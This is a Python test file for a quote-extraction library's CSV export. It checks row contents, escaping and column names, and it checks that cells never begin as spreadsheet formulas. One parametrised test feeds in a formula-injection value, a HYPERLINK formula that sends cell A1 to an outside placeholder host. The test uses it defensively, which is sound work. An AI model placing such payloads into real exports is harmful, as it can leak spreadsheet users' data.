from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import pytest

from inquit.render.csv import COLUMNS, header, rows
from inquit.types import Extraction, Quote, QuoteKind, Span, Speaker, SpeakerType

if TYPE_CHECKING:
    from inquit.types import Document


def read(text: str) -> list[dict[str, str]]:
    """Return the rows as a spreadsheet would read them."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_one_row_a_quote(document: Document, extraction: Extraction) -> None:
    """Rows come in the order of the quotes, with speaker, pieces, offsets and confidence."""
    table = read(header() + rows(extraction))
    assert len(table) == len(extraction.quotes)
    split = table[1]
    assert split == {
        "document_id": "ferry & co",
        "kind": "direct",
        "speaker": "Ilya Marsh",
        "speaker_type": "person",
        "speaker_mention": "Marsh",
        "cue": "said",
        "channel": "",
        "content": "“It is,” … “as safe as a <b>house</b> & more. They call it ‘the tub’.”",
        "start": "63",
        "end": "143",
        "spans": "63-71 84-143",
        "verbatim": "It is, … as safe as a <b>house</b> & more. They call it ‘the tub’.",
        "confidence": "0.980",
        "speaker_confidence": "0.950",
    }
    assert document.text[63:71] == "“It is,”"


def test_cells_survive_commas_quotes_and_line_ends() -> None:
    """Any text comes back exactly as it was from a CSV reader."""
    words = '"a",\r\nb\rc\n;\t"'
    quote = Quote(QuoteKind.DIRECT, (Span(0, len(words), words),))
    (row,) = read(header() + rows(Extraction("x", (quote,))))
    assert row["content"] == words


def test_a_lone_carriage_return_stays_in_its_cell() -> None:
    """A carriage return without a line feed or a comma beside it does not break the row."""
    words = "We saw it\rfrom the hill"
    quote = Quote(QuoteKind.DIRECT, (Span(0, len(words), words),), verbatim=(Span(0, len(words), words),))
    table = read(header() + rows(Extraction("x", (quote,))))
    assert [(row["content"], row["verbatim"]) for row in table] == [(words, words)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula(start: str) -> None:
    """Words from an article, or an id, never begin as what a spreadsheet would compute."""
    words = f'{start}HYPERLINK("https://example.org/?"&A1,"more")'
    span = Span(0, len(words), words)
    quote = Quote(
        QuoteKind.MIXED,
        (span,),
        verbatim=(span,),
        cue=span,
        speaker_mention=span,
        channel=span,
        speaker_id="s",
    )
    attack = Extraction(words, (quote,), (Speaker("s", words, SpeakerType.PERSON),))
    (row,) = read(header() + rows(attack))
    guarded = [name for name, cell in row.items() if cell == f"'{words}"]
    assert len(guarded) == 7
    assert not [name for name, cell in row.items() if cell.startswith(start)]


def test_columns_are_pinned() -> None:
    """The names of the columns, which spreadsheets rely on, do not change by accident."""
    assert header() == (
        '"document_id","kind","speaker","speaker_type","speaker_mention","cue","channel","content",'
        '"start","end","spans","verbatim","confidence","speaker_confidence"\n'
    )
    assert len(COLUMNS) == 14
